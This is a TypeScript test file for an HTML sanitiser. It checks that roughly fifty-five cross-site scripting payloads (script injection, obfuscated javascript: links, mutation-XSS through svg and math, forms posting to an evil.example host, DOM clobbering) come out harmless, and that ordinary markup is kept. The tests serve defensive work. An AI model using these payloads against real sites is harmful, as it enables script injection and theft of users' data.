import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { sanitizeHtml } from './sanitize-html';

type Node = DefaultTreeAdapterTypes.Node;

/** Every element as a browser's parser sees it: an oracle that shares no code with the sanitiser. */
function elements(html: string): DefaultTreeAdapterTypes.Element[] {
  const walk = (node: Node): DefaultTreeAdapterTypes.Element[] => [
    ...('tagName' in node ? [node] : []),
    ...('childNodes' in node ? node.childNodes.flatMap(walk) : []),
  ];
  return walk(parseFragment(html));
}

const forbiddenTags =
  /^(script|style|iframe|object|embed|form|input|button|textarea|select|svg|math|link|meta|base|template|noscript|video|audio|xmp|plaintext|title|frame|frameset|marquee|portal|slot|dialog)$/;

// The parser of addresses drops these before it reads a scheme.
const withoutBlanks = (value: string) => [...value].filter((character) => character > ' ').join('');

function dangers(html: string): string[] {
  return elements(html).flatMap(({ tagName, attrs }) => [
    ...(forbiddenTags.test(tagName) || tagName.includes('-') ? [tagName] : []),
    ...attrs
      .filter(
        ({ name, value }) =>
          /^(on|style$|srcdoc$|formaction$|action$|name$|is$|slot$|form$|xlink|ping$|background$)/.test(name) ||
          /^(javascript|vbscript|data|file|blob|livescript|mocha):/i.test(withoutBlanks(value)),
      )
      .map(({ name, value }) => `${tagName}.${name}=${value}`),
  ]);
}

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR = "alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x0000006A&#x0000061vascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details ontoggle=alert(1) open>x</details>',
  '<a href="#" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<a xlink:href="javascript:alert(1)" ping="//evil.example">x</a>',
  '<p is="x-evil"><x-evil>x</x-evil></p>',
  '<img name=getElementById src=x><a name=cookie>x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<img src=x onerror=alert(1)>//',
  '<a title="&quot;><img src=x onerror=alert(1)>">x</a>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<img src="x" alt="`><script>alert(1)</script>">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<marquee onstart=alert(1)>x</marquee>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
])('nothing in %j runs or styles the page', (attack) => {
  const clean = sanitizeHtml(attack);
  expect(dangers(clean)).toEqual([]);
  expect(sanitizeHtml(clean)).toBe(clean);
});

test.each([
  ['<h2 class="wp-block-heading">Title</h2>'],
  ['<p>One <strong>two</strong> <em>three</em> <code>a &lt; b &amp;&amp; c</code><br />x</p>'],
  ['<ul><li>a<ol start="3"><li>b</li></ol></li></ul><dl><dt>t</dt><dd>d</dd></dl>'],
  ['<pre class="wp-block-code"><code class="language-ts">const a = 1;\n  b();\n</code></pre>'],
  [
    '<figure class="wp-block-table"><table class="prices"><caption>c</caption><thead><tr><th scope="col">A</th></tr></thead>' +
      '<tbody><tr><td colspan="2" rowspan="1">1</td></tr></tbody></table></figure>',
  ],
  [
    '<figure class="wp-block-image size-large"><img src="https://cdn.example/a.jpg" alt="A cat" width="800" ' +
      'height="600" loading="lazy" srcset="https://cdn.example/a.jpg 800w, https://cdn.example/b.jpg 400w" sizes="50vw" />' +
      '<figcaption>A cat</figcaption></figure>',
  ],
  ['<img src="/local/a.jpg" alt="" />'],
  ['<a href="https://example.com/?a=1&amp;b=2#c">x</a> <a href="/about">y</a> <a href="mailto:a@b.example">z</a>'],
  ['<a href="tel:+4930123">call</a><blockquote cite="https://example.com"><p>q</p></blockquote><hr />'],
  ['<p lang="fr" dir="ltr">Ça va ? 日本語 🎉</p><details open><summary>s</summary>t</details>'],
])('%s stays as it is', (html) => {
  expect(sanitizeHtml(html)).toBe(html);
});

test('the text around what is dropped stays', () => {
  expect(sanitizeHtml('<p>a<font color="red">b</font><script>x</script><center>c</center></p>')).toBe('<p>abc</p>');
});

test('a link to a new window gives no hold on the old one', () => {
  expect(sanitizeHtml('<a href="https://a.example" target="_blank" rel="opener">x</a>')).toBe(
    '<a href="https://a.example" target="_blank" rel="noopener noreferrer">x</a>',
  );
});

test('an anchor and the link to it keep each other, under names that collide with nothing', () => {
  const clean = '<a href="#content-note-1">1</a><p id="content-note-1">n</p>';
  expect(sanitizeHtml('<a href="#note-1">1</a><p id="note-1">n</p>')).toBe(clean);
  expect(sanitizeHtml(clean)).toBe(clean);
});

test('classes that lift an element over the page go, all others stay', () => {
  const classes =
    'note fixed inset-0 z-50 position-fixed modal-backdrop [position:fixed] md:fixed alignwide is-style-rounded';
  expect(sanitizeHtml(`<div class="${classes}">x</div>`)).toBe('<div class="note alignwide is-style-rounded">x</div>');
});

test('of two thousand unclosed tags 256 stay and are closed', () => {
  expect(sanitizeHtml(`${'<b>'.repeat(2_000)}x`)).toBe(`${'<b>'.repeat(256)}x${'</b>'.repeat(256)}`);
});
